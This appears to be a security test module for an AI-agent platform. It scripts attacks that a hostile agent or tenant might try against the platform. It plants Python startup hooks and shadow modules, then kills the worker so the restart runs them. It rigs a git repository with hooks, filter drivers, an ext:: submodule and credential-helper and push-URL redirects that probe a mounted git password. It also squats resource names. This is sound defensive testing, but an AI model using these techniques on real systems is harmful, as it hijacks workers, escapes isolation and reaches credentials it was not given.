"""What is laid out for others to stumble over: code for the worker, traps for git, names of others.

An agent may write wherever the worker's user may, and a repository is a stranger's text. Whether
something of it ran is told by the git server, which any of them reaches: a trap asks it for a
repository, whose name says who asked and whether the credential could be read there.
"""

import uuid
from collections.abc import Callable
from typing import Any

from support.installation import SERVERS
from support.manifests import po_session
from support.storm import restarted
from support.world import echo_task, task

from attacks.agent_attacks import SESSION, void
from attacks.field import Field
from attacks.names import B
from attacks.scene import AGENT, SMALL
from attacks.table import Attack, Guard, Party, Refused

_SERVER = f"git-server.{SERVERS}.svc"
_CREDENTIAL = "attacks-git"
_PASSWORD = "only-for-tests"  # the one in manifests/git-server.yaml

# Everything that the worker, or an interpreter of its user, might take for a part of itself.
_PLANTS = """
mark() { echo "import os; os.makedirs('$HOME/ran', exist_ok=True)"; }
site=$HOME/.local/lib/$(python3 -I -c 'import sys; print("python%d.%d" % sys.version_info[:2])')
mkdir -p "$site/site-packages"
mark > "$site/site-packages/planted.pth"
for place in "$WORK" "$HOME" "$site/site-packages" /tmp; do
  for name in worker_wrapper/__main__ worker_wrapper/__init__ sitecustomize usercustomize \\
      orbiter_contracts/__init__ json redis structlog; do
    mkdir -p "$place/$(dirname "$name")" && mark > "$place/$name.py"
  done
done
rm -rf "$HOME/ran"
"""
_ENDS = "nohup sh -c 'sleep 1; kill -TERM 1; kill -TERM 1' > /dev/null 2>&1 &\n"
_RAN = 'test -e "$WORK/worker_wrapper/__main__.py" && ls -d "$HOME/ran"'

# The files of a repository that git, or a Python in it, might run or follow.
_FILES = """
trap=${PLACE:-$PWD}/trap; elsewhere=http://$SERVER/public/elsewhere-$ID.git
cat > trap << 'END'
#!/bin/sh
test -r /run/secrets/git/password && seen=with || seen=without
url="http://$SERVER/public/ran-$ID-$seen.git/info/refs?service=git-upload-pack"
python3 -I -c "import sys, urllib.request; urllib.request.urlopen(sys.argv[1])" "$url" > /dev/null
test -t 0 || cat
END
sed -i "s|[$]SERVER|$SERVER|; s|[$]ID|$ID|" trap; chmod 755 trap
mkdir -p hooks
for hook in pre-push pre-commit post-commit reference-transaction post-index-change \\
    post-checkout; do
  cp trap "hooks/$hook"
done
echo '* filter=evil diff=evil merge=evil' > .gitattributes
module='[submodule "x"]\\n\\tpath = x\\n\\turl = "ext::%s"\\n\\tupdate = !%s\\n'
printf "$module" "$trap" "$trap" > .gitmodules
for name in sitecustomize usercustomize re; do
  echo "import subprocess; subprocess.run(['$trap'], stdin=subprocess.DEVNULL)" > $name.py
done
ln -sfn /run/secrets/git link
git add -A && git commit -q -m Files
"""
# What an agent may have git believe: the hooks, and both configurations.
_CONFIGURED = """
for hook in hooks/*; do ln -sf "$PWD/$hook" ".git/$hook"; done
for file in .git/config "$HOME/.gitconfig"; do
  for key in core.fsmonitor core.sshCommand core.askPass core.pager diff.external \\
      filter.evil.smudge filter.evil.clean gpg.program remote.origin.receivepack \\
      uploadpack.packObjectsHook alias.push alias.rev-parse; do
    git config --file "$file" "$key" "$trap"
  done
  git config --file "$file" core.hooksPath "$PWD/hooks"
  git config --file "$file" credential.helper "!$trap"
  git config --file "$file" remote.origin.pushurl "$elsewhere"
  git config --file "$file" "url.$elsewhere.insteadOf" "$URL"
  git config --file "$file" "url.$elsewhere.pushInsteadOf" "$URL"
done
echo found > found.txt && git add -A && git commit -q -m Traps
"""
_NAMED = "git config user.name a; git config user.email a@example.com"


def _plants_and_ends(field: Field) -> None:
    """Plant code in a session's pod, end its worker, and look at the one that starts in its place.

    Raises:
        Refused: It runs, and nothing of what was planted has run.
    """
    shell = field.shells[SESSION]
    before = restarted(shell.seen())
    shell.run(f"WORK=/workspace\n{_PLANTS}\n{_ENDS}")

    def again() -> bool:
        pod = shell.seen()
        return restarted(pod) > before and all(
            item["ready"] for item in pod["status"]["containerStatuses"]
        )

    field.world.until("the worker runs again", again)
    found = shell.beside(f"WORK=/workspace\n{_RAN} 2>&1; true")
    if "No such file" in found:
        raise Refused(f"the worker has started again: {found}")


def _plants_and_starts_plainly(field: Field) -> None:
    """The same files, and an interpreter that looks where everybody does."""
    start = 'cd "$WORK"; PYTHONPATH=/opt/orbiter/src:/opt/orbiter/lib python3 -m worker_wrapper'
    home = "export HOME=/tmp/planted/home WORK=/tmp/planted/work; mkdir -p $HOME $WORK"
    void(field.free.run(f"{home}\n{_PLANTS}\n{start} 2> /dev/null\n{_RAN}"))


def _traps(run: str, *scripts: str) -> str:
    """Scripts, with the name of this run and the repository's address for their variables."""
    names = f"SERVER={_SERVER}; ID={run}; URL=http://{_SERVER}/{run}.git; PW={_PASSWORD}"
    return "\n".join((names, *scripts))


def _asked_for(field: Field, run: str) -> str:
    """Which repositories the git server has of this run."""
    words = ("exec", "deploy/git-server", "--", "sh", "-c", f"ls -d /srv/git/public/*{run}*; true")
    return field.world.kubectl("-n", SERVERS, *words)


def _pushes_with_traps(field: Field) -> None:
    """Have B's task push a repository full of traps with a credential the agent does not have.

    Raises:
        Refused: It was pushed where the spec says, and no trap has run beside the credential.
    """
    run, name = f"traps-{uuid.uuid4().hex[:8]}", "attacks-traps"
    secret = {"username": "orbiter", "password": _PASSWORD}
    git = {
        "url": f"http://{_SERVER}/{run}.git",
        "branch": "found",
        "push": "Always",
        "credentialsSecretRef": {"name": _CREDENTIAL},
    }
    clone = f"git clone -q http://orbiter:$PW@{_SERVER}/$ID.git /tmp/$ID; cd /tmp/$ID; {_NAMED}"
    field.free.run(_traps(run, "PLACE=/workspace", clone, _FILES, "git push -q origin HEAD:main"))
    script = _traps(run, _FILES, _CONFIGURED)
    script = f"cat > /tmp/traps.sh << 'SCRIPT'\n{script}\nSCRIPT\nsh /tmp/traps.sh < /dev/null"
    field.tenant.apply(
        [
            {
                "apiVersion": "v1",
                "kind": "Secret",
                "metadata": {"name": _CREDENTIAL, "namespace": B},
                "stringData": secret,
            },
            task(
                name,
                f"[[bash: {script}]]\n[[result]]",
                namespace=B,
                workspace={"git": git},
            ),
        ],
        namespace=None,
    )
    try:
        status = field.world.wait(name, "Completed", namespace=B)
    finally:
        field.tenant.delete("agenttask", name, B)
    words = ("exec", "deploy/git-server", "--", "git", "-C", f"/srv/git/{run}.git")
    head = field.world.kubectl("-n", SERVERS, *words, "rev-parse", "found").strip()
    assert head == status["result"]["commitSHA"], "what was pushed is not what the agent made"
    asked = _asked_for(field, run)
    assert f"ran-{run}-without" in asked, (
        f"the traps are none, not even the agent's git ran: {asked}"
    )
    if f"ran-{run}-with.git" not in asked and "elsewhere" not in asked:
        raise Refused(f"{run} was pushed, and beside the credential no trap has run")


def _pushes_plainly(field: Field) -> None:
    """The same repository, pushed by a git that believes what it finds."""
    run = f"traps-{uuid.uuid4().hex[:8]}"
    credential = "mkdir -p /run/secrets/git && echo none > /run/secrets/git/password"
    fresh = f"export HOME=/tmp/{run}; mkdir -p $HOME/work; cd $HOME/work; git init -q; {_NAMED}"
    push = "git push -q $URL HEAD:found; true"
    void(field.free.run(_traps(run, credential, fresh, _FILES, _CONFIGURED, push)))
    asked = _asked_for(field, run)
    assert f"ran-{run}-with.git" in asked, asked


_SQUATTED = "attacks-squatted"


def _squatted(kind: str) -> dict[str, Any]:
    """A Job or a Deployment of the name that Orbiter will want, with labels that say it is."""
    labels = {
        "app.kubernetes.io/managed-by": "orbiter",
        "orbiter.dev/agenttask": _SQUATTED,
        "orbiter.dev/posession": _SQUATTED,
        "orbiter.dev/attempt": "1",
    }
    container = {"name": "worker", "image": "localhost/none:none"}
    pod = {"metadata": {"labels": labels}, "spec": {"containers": [container]}}
    job = {"suspend": True, "template": pod | {"spec": pod["spec"] | {"restartPolicy": "Never"}}}
    deployment = {"replicas": 0, "selector": {"matchLabels": labels}, "template": pod}
    name = f"{_SQUATTED}-1" if kind == "Job" else _SQUATTED
    return {
        "apiVersion": "batch/v1" if kind == "Job" else "apps/v1",
        "kind": kind,
        "metadata": {"name": name, "namespace": B, "labels": labels},
        "spec": job if kind == "Job" else deployment,
    }


def _among(field: Field, kind: str, *, squatted: bool) -> None:
    """Have B's tenant make a task or a session whose Job's or Deployment's name somebody may have.

    Raises:
        Refused: What it says of the conflict.
    """
    session = po_session(_SQUATTED, userId=10**9 + 12, agent=AGENT, podTemplate=SMALL)
    wanted = echo_task(_SQUATTED, namespace=B) if kind == "Job" else session
    other = _squatted(kind)
    if squatted:
        field.world.apply(other)
    field.tenant.apply(wanted, namespace=B)
    try:
        found = field.admin.wait_for(wanted["kind"], _SQUATTED, _settled, namespace=B)
    finally:
        field.tenant.delete(wanted["kind"], _SQUATTED, B)
        field.admin.delete(kind, other["metadata"]["name"], B)
    if told := _conflict(found["status"]):
        raise Refused(told)


def _conflict(status: dict[str, Any]) -> str:
    told = [status, *status.get("conditions", ())]
    return "; ".join(item["message"] for item in told if item.get("reason") == "NameConflict")


def _settled(found: dict[str, Any]) -> bool:
    status = found.get("status", {})
    return bool(_conflict(status)) or status.get("phase") in (
        "Completed",
        "Failed",
        "Asleep",
        "Ready",
    )


def _squatting(kind: str, whose: str) -> Attack:
    return Attack(
        name=f"has a {kind} of {whose} name and labels there first",
        party=Party.TENANT,
        guard=Guard.OPERATOR,
        action=lambda field: _among(field, kind, squatted=True),
        control=lambda field: _among(field, kind, squatted=False),
        refusal=f"{kind} {_SQUATTED}.* exists and is ",
    )


def _attack(
    name: str,
    guard: Guard,
    action: Callable[[Field], None],
    control: Callable[[Field], None],
    refusal: str,
) -> Attack:
    return Attack(name, Party.AGENT, guard, action, control, refusal)


ATTACKS: list[Attack] = [
    _squatting("Job", "a task's"),
    _squatting("Deployment", "a session's"),
    _attack(
        "pushes a repository with hooks, filters, aliases and other addresses, in a worker",
        Guard.GIT,
        _pushes_with_traps,
        _pushes_plainly,
        "was pushed, and beside the credential no trap has run",
    ),
    # The last one: the session's agent is a shell no longer.
    _attack(
        "plants modules and ends the worker, in a session",
        Guard.ISOLATION,
        _plants_and_ends,
        _plants_and_starts_plainly,
        "has started again: .*ran'?: No such file",
    ),
]
